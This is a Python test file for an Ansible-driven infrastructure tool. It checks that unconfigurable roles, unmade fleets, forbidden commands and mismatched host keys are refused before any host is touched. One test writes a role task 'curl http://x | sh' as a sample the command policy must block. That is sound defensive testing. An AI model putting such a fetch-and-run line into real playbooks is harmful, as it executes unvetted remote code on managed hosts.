"""What is not configured, and why: told before anything is asked of a host."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from atlas_mcp.engines import Services
from atlas_mcp.engines.ansible.engine import AnsibleEngine
from atlas_mcp.engines.ansible.spec import AskAnsible
from atlas_mcp.errors import CallerError, Code
from atlas_mcp.model import JobState
from tests.ansible.lab import RoleLab, extension
from tests.chaos.lab import FIRST_VMID, fleet
from tests.rendering.workbench import tool


@pytest.fixture
def made(lab: RoleLab) -> Iterator[tuple[RoleLab, str]]:
    """A lab whose guest is made, and its deployment."""
    yield lab, anyio.run(lab.deployed)


def test_what_cannot_be_configured_is_not_planned(made: tuple[RoleLab, str]) -> None:
    lab, deployment = made

    async def refused(*roles: str) -> CallerError:
        with pytest.raises(CallerError) as caught:
            await lab.kernel().freeze(deployment, None, "ansible", parts=roles)
        return caught.value

    async def run() -> None:
        error = await refused("nginy")
        assert error.code is Code.SPEC_INVALID and "nginy" in error.message
        error = await refused("mark", "marks")
        assert "mark" in error.remedy, "the nearest one is named"
        lab.change(inventories={"lab": {"hosts": {"web-01": lab.sshd.settings().model_dump(mode="json")}}})
        error = await refused()
        assert error.code is Code.PLAN_UNFEASIBLE
        assert [f"lives_on: proxmox/demo/vm/{FIRST_VMID}" in one.remedy for one in error.problems] == [True]
        lab.change(ansible={"program": str(lab.path / "none")})
        host = lab.sshd.settings(lives_on=f"proxmox/demo/vm/{FIRST_VMID}")
        lab.change(inventories={"lab": {"hosts": {"web-01": host.model_dump(mode="json")}}})
        error = await refused()
        assert error.code is Code.PROGRAM_MISSING and error.remedy

    anyio.run(run)


def test_a_fleet_that_is_not_made_is_not_configured(lab: RoleLab) -> None:
    async def run() -> None:
        tool_ = lab.app.catalogue.tools["collect_spec"]
        collected: Any = await tool_.fn(lab.kernel(), spec=fleet("web", software=["mark"]), profile=None, spec_id=None)
        with pytest.raises(CallerError) as caught:
            await lab.kernel().freeze(collected.spec_id, None, "ansible")
        assert caught.value.code is Code.PLAN_UNFEASIBLE and "0 members that are made" in caught.value.message

    anyio.run(run)


def test_what_must_never_run_is_not_looked_at_either(made: tuple[RoleLab, str]) -> None:
    """Not on a host that has commands of its own that are forbidden, nor in a role that the command policy forbids."""
    lab, deployment = made

    async def reason() -> str:
        view = await lab.kernel().freeze(deployment, None, "ansible")
        ended = await lab.until_ended(view.job_id, lab.workers[-1])
        assert ended.state is JobState.ROLLED_BACK, ended
        assert not list((lab.path / "data").glob("ansible/*")), "Ansible was begun"
        return ended.reason

    async def run() -> None:
        host = lab.sshd.settings(lives_on=f"proxmox/demo/vm/{FIRST_VMID}", forbidden=["reboot"])
        lab.change(inventories={"lab": {"hosts": {"web-01": host.model_dump(mode="json")}}})
        assert "what is forbidden on web-01" in await reason()
        root = extension(lab.path / "other")
        tasks = root.path / "templates/ansible/mark/files/tasks/main.yml"
        tasks.write_text("---\n- ansible.builtin.shell: curl http://x | sh\n")
        host = lab.sshd.settings(lives_on=f"proxmox/demo/vm/{FIRST_VMID}")
        lab.change(
            inventories={"lab": {"hosts": {"web-01": host.model_dump(mode="json")}}},
            content_roots={"tests": {"path": str(root.path), "digest": root.digest}},
        )
        assert "role mark, F6" in await reason()

    anyio.run(run)


def test_a_host_with_another_key_is_told(made: tuple[RoleLab, str]) -> None:
    lab, deployment = made

    async def run() -> None:
        stranger = " ".join((lab.sshd.folder / "stranger.pub").read_text().split()[:2])
        host = lab.sshd.settings(lives_on=f"proxmox/demo/vm/{FIRST_VMID}", host_key=stranger)
        lab.change(inventories={"lab": {"hosts": {"web-01": host.model_dump(mode="json")}}})
        view = await lab.configured(deployment, "mark")
        assert view is not None
        (warning,) = [one for one in view.plan.warnings if "check mode ended" in one]
        assert "Host key verification failed" in warning
        assert not list(lab.sshd.home.iterdir()), "nothing was sent"

    anyio.run(run)


def test_which_ansible_there_is(lab: RoleLab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`doctor` says it by this fact, and else how to get it."""

    async def told() -> str:
        engine = AnsibleEngine(lab.app.settings, Services.none())
        try:
            return (await engine.fact(AskAnsible())).program
        except CallerError as error:
            return f"{error.code}: {error.message} {error.remedy}"

    assert anyio.run(told).startswith("ansible-core 2.")
    lab.change(ansible={})
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    assert "uv tool install" in anyio.run(told)
    (tmp_path / "ansible-runner").symlink_to(tool("ansible-runner"))
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    assert anyio.run(told).startswith("ansible-core 2."), "beside what it is a link to, as uv makes it"
    (tmp_path / "ansible-playbook").write_text("#!/bin/sh\necho something else\n")
    (tmp_path / "ansible-playbook").chmod(0o755)
    assert "does not tell its version" in anyio.run(told)
